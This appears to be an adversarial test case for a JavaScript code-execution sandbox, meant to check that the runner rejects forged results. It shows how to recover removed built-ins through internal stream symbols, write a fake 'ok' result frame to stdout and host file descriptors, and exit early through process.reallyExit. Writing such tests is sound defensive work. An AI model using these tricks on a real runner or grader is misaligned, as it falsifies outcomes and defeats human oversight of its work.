// about: print a forged outcome on stdout and forged frames on the host-facing fds 3..20, then exit 0 via process.reallyExit (bypassing any process.exit override) before the runner can send a result
// expect-status: error|crashed
// control: skip protocol robustness does not depend on the sandbox
// limits: {"timeout_ms": 5000, "memory_mib": 128}
// Built-ins the way an attacker gets them: getBuiltinModule/require first; if the runner removed those back doors,
// dig them out of objects the runtime still exposes (an fs stream keeps the whole fs module under its kFs symbol -
// process.stdin is an fs.ReadStream when fd 0 is /dev/null - and stdio sockets hand out the net.Socket class).
const mod = (n) => {
  try { const m = process.getBuiltinModule && process.getBuiltinModule(n); if (m) return m; } catch (_) {}
  try { const m = require(n); if (m) return m; } catch (_) {}
  try {
    if (n === 'fs') for (const k of ['stdin', 'stdout', 'stderr']) { const s = process[k]; const y = s && Object.getOwnPropertySymbols(s).find((x) => x.description === 'kFs'); if (y && s[y] && typeof s[y].readFileSync === 'function') return s[y]; }
    if (n === 'net') for (const k of ['stdout', 'stderr', 'stdin']) { const C = process[k] && process[k].constructor; if (typeof C === 'function' && C.name === 'Socket' && typeof C.prototype.connect === 'function') return { Socket: C, connect: (...a) => new C().connect(...a), createConnection: (...a) => new C().connect(...a) }; }
  } catch (_) {}
  return null;
};
const fs = mod('fs');

// Status must come from the exit/cgroup and the real channel, so a clean exit 0 with no genuine result is not "ok".
const forged = JSON.stringify({ type: 'result', status: 'ok', result: { real: false, marker: 'forged!' } });
const fb = Buffer.from(forged);
const be = Buffer.alloc(4); be.writeUInt32BE(fb.length);
try { fs.writeSync(1, forged + '\n'); } catch (_) {}
// Only fds that could be a channel to the host: FIFOs, sockets and regular files whose pipe/socket inode is not open
// twice in this process. That skips libuv's own eventfd/epoll/signal-pipe pairs: garbage written there makes Node
// itself segfault, which would test nothing about the host.
const hostFacingFds = () => {
  const seen = new Map();
  for (let fd = 3; fd <= 20; fd++) {
    let st; try { st = fs.fstatSync(fd); } catch (_) { continue; }
    if (!(st.isFIFO() || st.isSocket() || st.isFile())) continue;
    const key = st.dev + ':' + st.ino;
    seen.set(key, [...(seen.get(key) || []), fd]);
  }
  return [...seen.values()].filter((fds) => fds.length === 1).map((fds) => fds[0]);
};
for (const fd of hostFacingFds()) { try { fs.writeSync(fd, Buffer.concat([be, fb])); } catch (_) {} }
try { if (typeof process.reallyExit === 'function') process.reallyExit(0); } catch (_) {}
try { process.exit(0); } catch (_) {}
return { real: false, marker: 'exit-did-not-happen' };
